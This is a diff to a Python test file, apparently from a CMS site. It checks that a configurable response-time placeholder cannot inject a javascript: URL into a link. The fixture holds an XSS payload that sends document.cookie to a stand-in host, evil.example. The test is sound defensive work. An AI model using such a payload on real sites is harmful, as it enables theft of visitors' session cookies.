@@ -279,7 +279,9 @@ def case_of_a_new_report():
 
 # --- 3. {sla} carrying a javascript: URL into a link ----------------------------------------
 
-JAVASCRIPT_SLA = "javascript:fetch('//evil.example/?'+document.cookie)"
+# The site's wording of the response time ({days} is the number), and what {sla} becomes.
+JAVASCRIPT_WORDING = "javascript:fetch('//evil.example/?'+document.cookie)//{days}"
+JAVASCRIPT_SLA = JAVASCRIPT_WORDING.replace("{days}", "3")
 
 
 def link_to_sla(text):
@@ -297,9 +299,7 @@ def link_to_sla(text):
                     "data": {},
                 }
             ],
-            "entityMap": {
-                "0": {"type": "LINK", "mutability": "MUTABLE", "data": {"url": "{sla}"}}
-            },
+            "entityMap": {"0": {"type": "LINK", "mutability": "MUTABLE", "data": {"url": "{sla}"}}},
         }
     )
 
@@ -332,7 +332,7 @@ def assert_sla_is_plain_text(html):
 
 def test_sla_cannot_put_a_javascript_url_into_a_link(site):
     reporting = ReportingSettings.for_site(site)
-    reporting.sla_text = JAVASCRIPT_SLA
+    reporting.response_time_wording = JAVASCRIPT_WORDING
     reporting.save()
     page = Page.objects.get(url_path__endswith="/anonymous-messaging/").specific
     admin = admin_client()
